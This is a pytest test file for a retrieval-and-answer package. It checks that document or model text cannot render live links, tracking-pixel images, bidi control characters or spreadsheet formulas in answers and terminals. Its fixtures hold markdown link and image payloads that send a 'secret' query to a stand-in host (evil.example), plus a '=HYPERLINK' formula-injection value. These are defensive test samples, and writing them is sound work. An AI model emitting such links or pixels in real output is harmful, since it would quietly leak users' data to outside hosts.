"""What documents say does nothing where it is shown: in answers, prompts, tables and terminals."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from ragways.apps.answer import show_answer
from ragways.core.stream import OutgoingText
from ragways.core.text import printable
from ragways.index.build import build
from ragways.index.open import Index
from ragways.layers.table import LAYERS
from ragways.models.client import ModelClient
from ragways.retrieval.as_plain import result_data
from ragways.retrieval.ask import PARADIGMS, ask
from ragways.retrieval.resources import Resources
from ragways.testing.scripted import ScriptedModel
from tests.fakes import WordHashes, recipe, write
from tests.rendered import dangers

URL = "https://evil.example/collect?q=secret"
LIVE = f"[click here]({URL}) <img src={URL}> <{URL}> www.evil.example/x ![pixel]({URL})"
LEAK = LIVE.replace(URL, f"{URL}&question=secret")
"""The same with what only the model knows."""
TOWERS = [f"Tower {name}" for name in ("Abel", "Berta", "Corran", "Dora", "Edda", "Finn")]
MEMORY = next(name for name, paradigm in PARADIGMS.items() if not paradigm.needs)
"""The paradigm that answers from what a model knows."""
QUESTION = "When was the Tower Abel built by Ida Quill?"


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("outputs")
    texts = {
        f"{tower}.txt": f"The {tower} was built in 1904 by Ida Quill {LIVE}. {tower} is tall.\n" for tower in TOWERS
    }
    texts["dated.json"] = json.dumps(
        [{"title": "Dated\u202e tower", "text": "The dated tower was built in 1904.", "date": "19\u202e04\u2066"},
         {"title": "=HYPERLINK tower", "text": '=HYPERLINK("x") met "+Plus One" and Ida Quill.'}]
    )  # fmt: skip
    write(home / "docs", texts)
    asyncio.run(build(home / "index", [home / "docs"], recipe(layers=frozenset(LAYERS))))
    return home / "index"


@pytest.fixture
def use(folder: Path):
    with_index = Resources(Index.open(folder), WordHashes(), ModelClient(None))
    with_index.threshold, with_index.sentences = 0.0, 20
    yield with_index
    with_index.index.close()


@pytest.mark.parametrize("name", list(PARADIGMS))
def test_nothing_that_leaves_is_live_whatever_the_paradigm(use: Resources, name: str):
    shown = ""

    def take(text: str, *, restart: bool = False) -> None:
        nonlocal shown
        shown = text if restart else shown + text

    result = asyncio.run(ask(use, QUESTION, name, on_text=OutgoingText(take)))
    evidence = result.answer.evidence.texts
    data = result_data(result)
    assert not dangers(data["answer"], evidence), data["answer"]
    assert not dangers(data["explanation"], evidence)
    assert not dangers(shown, evidence)
    for citation in (each for each in result.answer.citations if each.document.startswith("article:")):
        assert citation.quote == use.index.text(citation.document, citation.start, citation.end)


@pytest.mark.parametrize("name", ["naive", MEMORY])
def test_what_a_model_writes_is_raw_in_python_and_never_live_where_it_leaves(use: Resources, name: str):
    wrote = f"In 1904 {LEAK}"
    use.model = ModelClient(ScriptedModel([wrote]))
    shown = ""

    def take(text: str, *, restart: bool = False) -> None:
        nonlocal shown
        shown = text if restart else shown + text
        assert "![" not in shown
        assert "<img" not in shown

    result = asyncio.run(ask(use, QUESTION, name, on_text=OutgoingText(take)))
    assert result.answer.text == wrote
    evidence = result.answer.evidence.texts
    assert shown == result_data(result)["answer"]
    assert "evil.example" in shown
    assert not dangers(shown, evidence or [LEAK]), "links stay where no document was shown"


def test_no_sign_that_turns_the_line_reaches_the_terminal(folder: Path, capsys: pytest.CaptureFixture[str]):
    with_index = Resources(Index.open(folder), WordHashes(), ModelClient(None))
    result = asyncio.run(ask(with_index, "When was the dated tower built?", "naive", {"k": 20}))
    assert any("\u202e" in hit.piece.date for hit in result.answer.evidence.items)
    show_answer(result, details=True)
    shown = capsys.readouterr().out
    assert "Dated" in shown
    assert printable(shown) == shown
    with_index.index.close()
